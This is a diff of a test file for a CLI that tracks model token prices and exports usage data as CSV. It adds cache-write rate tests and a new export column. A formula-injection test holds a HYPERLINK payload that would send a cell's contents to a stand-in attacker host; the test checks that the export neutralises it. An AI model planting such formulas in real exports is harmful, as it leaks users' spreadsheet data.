@@ -221,6 +221,14 @@ t.test('price set and show (units per million tokens)', async t => {
   t.equal(r.code, 0, 'overwrites; without --cached the input rate applies')
   r = await cli(args, 'price', 'show', 'echo/echo-1', '--json')
   t.same(JSON.parse(r.out), { model: 'echo/echo-1', input: 1, output: 2 })
+  t.match((await cli(args, 'price', 'show', 'echo/echo-1')).out, /^write\s+1 \(input rate\)$/m, 'no cache-write rate: the input rate')
+
+  r = await cli(args, 'price', 'set', 'echo/echo-1', '--input', '3', '--output', '15', '--cache-write', '3.75')
+  t.equal(r.code, 0)
+  t.same(await (await open()).getPrice('echo/echo-1'), { input: 3, cacheWrite: 3.75, output: 15 })
+  t.match(r.out, /^write\s+3\.75$/m)
+  r = await cli(args, 'price', 'set', 'echo/echo-1', '--input', '3', '--output', '15', '--cache-write', '-1')
+  t.not(r.code, 0, 'a negative cache-write rate is refused')
 })
 
 t.test('usage export: CSV and JSON with a time range', async t => {
@@ -244,10 +252,10 @@ t.test('usage export: CSV and JSON with a time range', async t => {
   const lines = r.out.trimEnd().split('\r\n')
   t.equal(lines[0], USAGE_CSV_COLUMNS.join(','))
   t.same(lines[0]!.split(','), ['time', 'keyId', 'organization', 'project', 'model', 'provider', 'traceId', 'idempotencyKey',
-    'inputTokens', 'cachedInputTokens', 'outputTokens', 'cost', 'priceInput', 'priceCachedInput', 'priceOutput', 'estimated'])
+    'inputTokens', 'cachedInputTokens', 'outputTokens', 'cost', 'priceInput', 'priceCachedInput', 'priceOutput', 'estimated', 'priceCacheWrite'])
   t.equal(lines.length, 3, 'header + records at 01:00 and 02:00 (from inclusive, to exclusive)')
-  t.equal(lines[1], '2025-03-01T01:00:00.000Z,k1,acme,,echo/echo-1,echo,tr-1,"idem, ""quoted""",1000,200,50,0.000005,,,,true')
-  t.equal(lines[2], '2025-03-01T02:00:00.000Z,k1,acme,web,echo/echo-1,echo,tr-2,,1000,200,50,1.234567,3,0.3,15,false')
+  t.equal(lines[1], '2025-03-01T01:00:00.000Z,k1,acme,,echo/echo-1,echo,tr-1,"idem, ""quoted""",1000,200,50,0.000005,,,,true,')
+  t.equal(lines[2], '2025-03-01T02:00:00.000Z,k1,acme,web,echo/echo-1,echo,tr-2,,1000,200,50,1.234567,3,0.3,15,false,')
 
   r = await cli(args, 'usage', 'export')
   t.equal(r.out.trimEnd().split('\r\n').length, 5, 'no range: everything')
@@ -283,7 +291,7 @@ t.test('usage export: client-chosen text that a spreadsheet would run as a formu
   const r = await cli(args, 'usage', 'export')
   t.equal(r.code, 0)
   const lines = r.out.split('\r\n').slice(1, -1)
-  const idemCell = (line: string) => line.split(',tr-')[1]!.replace(/^\d+,/, '').replace(/,10,0,5,0\.000007,,,,false$/, '')
+  const idemCell = (line: string) => line.split(',tr-')[1]!.replace(/^\d+,/, '').replace(/,10,0,5,0\.000007,,,,false,$/, '')
   t.equal(idemCell(lines[0]!), `"'=HYPERLINK(""http://evil.example/?x=""&A1,""ok"")"`, 'a leading = gets a quote (and CSV quoting)')
   t.equal(idemCell(lines[1]!), "'+1+2")
   t.equal(idemCell(lines[2]!), "'-2+3")
